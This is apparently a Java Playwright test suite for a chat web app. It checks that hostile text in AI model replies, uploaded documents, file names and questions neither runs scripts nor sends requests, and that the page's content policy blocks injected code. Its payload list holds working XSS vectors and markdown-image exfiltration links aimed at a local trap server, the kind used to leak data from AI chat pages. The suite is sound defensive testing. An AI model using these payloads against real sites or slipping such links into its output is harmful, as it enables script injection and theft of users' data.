package dev.freehold.server.web;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Text of an evil model, an evil document and an evil name: nothing runs, nothing is fetched. A
/// listener on another port is the trap.
@InBrowser
class HostileTextTest {

  @TempDir Path folder;
  private Site site;
  private HttpServer trap;
  private final List<String> caught = new CopyOnWriteArrayList<>();

  @BeforeEach
  void open() throws IOException {
    site = new Site(folder);
    trap = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    trap.createContext(
        "/",
        exchange -> {
          caught.add(exchange.getRequestURI().toString());
          exchange.sendResponseHeaders(200, 6);
          exchange.getResponseBody().write("caught".getBytes(StandardCharsets.UTF_8));
          exchange.close();
        });
    trap.start();
  }

  @AfterEach
  void close() {
    trap.stop(0);
    site.close();
  }

  /// What has stolen data from chat pages, and what breaks pages that build HTML.
  private List<String> payloads() {
    String to = "http://127.0.0.1:" + trap.getAddress().getPort();
    return List.of(
        "![x](" + to + "/image.png?secret)",
        "![x][leak]\n\n[leak]: " + to + "/reference.png",
        "[![x](" + to + "/nested.png)](" + to + "/nested)",
        "<img src=\"" + to + "/raw.png\" onerror=\"window.harmed=1\">",
        "<img src=x onerror=window.harmed=1>",
        "<script>window.harmed=1</script>",
        "<svg onload=window.harmed=1><use href=\"" + to + "/use.svg\"/></svg>",
        "<iframe src=\"" + to + "/frame\" srcdoc=\"<script>parent.harmed=1</script>\"></iframe>",
        "<link rel=stylesheet href=\"" + to + "/style.css\">",
        "<meta http-equiv=refresh content=\"0;url=" + to + "/refresh\">",
        "<form action=\""
            + to
            + "/form\"><button autofocus onfocus=window.harmed=1>x</button></form>",
        "<video src=\""
            + to
            + "/video\" autoplay></video><object data=\""
            + to
            + "/object\"></object>",
        "<base href=\"" + to + "/\">",
        "[click](javascript:window.harmed=1)",
        "[click](data:text/html,<script>window.harmed=1</script>)",
        "[click](JaVaScRiPt&colon;window.harmed=1)",
        "[click](vbscript:x) <javascript:window.harmed=1>",
        "[click](" + to + "/link?q=secret \"title\" onmouseover=window.harmed=1)",
        "<" + to + "/auto> " + to + "/bare www.example.org",
        "`<img src=x onerror=window.harmed=1>`",
        "```html\n<script>window.harmed=1</script>\n```",
        "```\"><img src=x onerror=window.harmed=1>\ncode\n```",
        "| a | <img src="
            + to
            + "/cell onerror=window.harmed=1> |\n|---|---|\n| ![y]("
            + to
            + "/row.png) | b |",
        "# <img src=x onerror=window.harmed=1>\n\n> <script>window.harmed=1</script>\n\n- <svg/onload=window.harmed=1>",
        "&lt;img src=x onerror=window.harmed=1&gt; &#60;script&#62;window.harmed=1&#60;/script&#62;",
        "<!--><img src=x onerror=window.harmed=1>--> <![CDATA[<script>window.harmed=1</script>]]>",
        "<style>@import url("
            + to
            + "/import.css); * { background: url("
            + to
            + "/background.png) }</style>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>",
        "${window.harmed=1} {{constructor.constructor('window.harmed=1')()}} <?php ?> \u202e\u0000",
        "[1] [1](" + to + "/cited) [2]: " + to + "/definition\n\n[2]");
  }

  private void assertUnharmed(Page page) {
    assertThat(page.evaluate("() => window.harmed")).as("something ran").isNull();
    assertThat(caught).as("requests that reached the trap").isEmpty();
    assertThat(
            page.locator(
                    ".text :is(img, script, iframe, svg:not(.icon), link, meta, form, video, object, base, style, math, a)")
                .count())
        .isZero();
    site.assertQuiet();
  }

  @Test
  void whateverAModelWritesIsShownAndDoesNothing() {
    Page page = site.signedIn();
    for (String payload : payloads()) {
      site.model.script = _ -> "before " + payload + "\n\nafter";
      Site.ask(page, "Say it");
      assertThat(page.locator(".text").last()).containsText("after");
    }
    assertUnharmed(page);
    page.reload();
    assertThat(page.locator(".turn").last()).isVisible();
    page.waitForTimeout(300);
    assertUnharmed(page);
  }

  @Test
  void aLinkWaitsUntilItsWholeAddressWasShown() {
    Page page = site.signedIn();
    String address = "http://127.0.0.1:" + trap.getAddress().getPort() + "/go?q=secret";
    site.model.script = _ -> "[the manual](" + address + ")";
    Site.ask(page, "Link");
    page.locator(".outside").hover();
    page.locator(".outside").click();
    assertThat(page.locator("dialog .address")).hasText(address);
    page.keyboard().press("Enter");
    assertThat(page.locator("dialog")).hasCount(0);
    assertThat(caught).isEmpty();
    page.locator(".outside").click();
    Page opened = page.context().waitForPage(() -> page.locator("dialog .primary").click());
    opened.waitForLoadState();
    page.waitForCondition(() -> !caught.isEmpty());
    assertThat(caught.getFirst()).isEqualTo("/go?q=secret");
    assertThat(opened.evaluate("() => window.opener")).isNull();
  }

  @Test
  void whateverADocumentItsNameAndAQuestionHoldDoesNothingEither() {
    Page page = site.signedIn();
    String text =
        "# Oil\n\nThe oil of the press is changed yearly.\n\n" + String.join("\n\n", payloads());
    String name = "<img src=x onerror=window.harmed=1>.md";
    Site.drop(page, Map.of(name, text.getBytes(StandardCharsets.UTF_8)));
    page.locator("dialog .primary").click();
    DocumentsPageTest.read(page.locator(".uploads .state.ready, .uploads .state.partly"));
    site.model.script = _ -> "Yearly [1].";
    Site.ask(page, "<script>window.harmed=1</script> When is the oil of the press changed?");
    assertThat(page.locator(".passage").first()).isVisible();
    page.locator(".passage button").first().click();
    assertThat(page.locator(".panel .sheet")).containsText("changed yearly");
    page.navigate(site.base() + "/documents");
    assertThat(page.locator(".document")).containsText("<img");
    page.locator(".document a").first().click();
    assertThat(page.locator(".sheet")).containsText("changed yearly");
    assertThat(page.locator(".sheet :is(img, script, iframe, a, form, video, object)").count())
        .isZero();
    assertUnharmed(page);
  }

  @Test
  void thePolicyWouldHoldEvenIfThePageDidNot() {
    Page page = site.signedIn();
    String to = "http://127.0.0.1:" + trap.getAddress().getPort();
    Object refused =
        page.evaluate(
            """
            async to => {
              const refused = [];
              try { document.body.innerHTML = "<b>x</b>"; } catch (e) { refused.push("html"); }
              try { await fetch(to + "/fetch"); } catch (e) { refused.push("fetch"); }
              await new Promise(done => { const i = new Image(); i.onerror = i.onload = done; i.src = to + "/image"; });
              const script = document.createElement("script");
              try { script.textContent = "window.harmed=1"; document.body.append(script); } catch (e) { refused.push("script"); }
              return refused;
            }
            """,
            to);
    assertThat(refused)
        .asInstanceOf(org.assertj.core.api.InstanceOfAssertFactories.LIST)
        .contains("html", "fetch", "script");
    assertThat(page.evaluate("() => window.harmed")).isNull();
    assertThat(caught).isEmpty();
  }
}
